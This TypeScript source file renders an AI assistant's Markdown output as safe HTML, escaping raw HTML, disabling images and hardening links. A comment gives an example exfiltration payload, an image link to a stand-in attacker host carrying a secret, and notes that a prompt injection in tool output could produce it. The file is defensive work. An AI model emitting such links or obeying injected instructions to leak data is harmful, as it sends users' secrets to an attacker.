/**
 * Markdown for assistant text, bundled (no CDN). markdown-it with `html: false` escapes
 * every raw HTML tag the model writes and refuses `javascript:`/`vbscript:`/`data:` links,
 * so its output is safe to insert as HTML.
 */
import MarkdownIt from "markdown-it";

const md = new MarkdownIt({ html: false, linkify: false, breaks: false, typographer: false });

// Images are not rendered: a model (or a prompt injection in a tool output) could make
// the page fetch an arbitrary URL with `![](https://attacker/?secret)`.
md.disable("image");

// Links open in a new tab and get no handle on the notebook page.
const renderToken: NonNullable<typeof md.renderer.rules.link_open> = (tokens, idx, options, _env, self) =>
  self.renderToken(tokens, idx, options);
const linkOpen = md.renderer.rules.link_open ?? renderToken;
md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  if (token) {
    token.attrSet("target", "_blank");
    token.attrSet("rel", "noopener noreferrer nofollow");
  }
  return linkOpen(tokens, idx, options, env, self);
};

/** Above this size, text is shown verbatim: parsing it on every streamed frame would lag. */
export const MARKDOWN_MAX_CHARS = 200_000;

const ESCAPES: Record<string, string> = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };

/** Escape text for use inside HTML. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ESCAPES[c] ?? c);
}

/** Render Markdown to safe HTML (raw HTML in the source is escaped, not interpreted). */
export function renderMarkdown(source: string): string {
  if (source.length > MARKDOWN_MAX_CHARS) {
    return `<pre class="a3s-pre">${escapeHtml(source)}</pre>`;
  }
  return md.render(source);
}
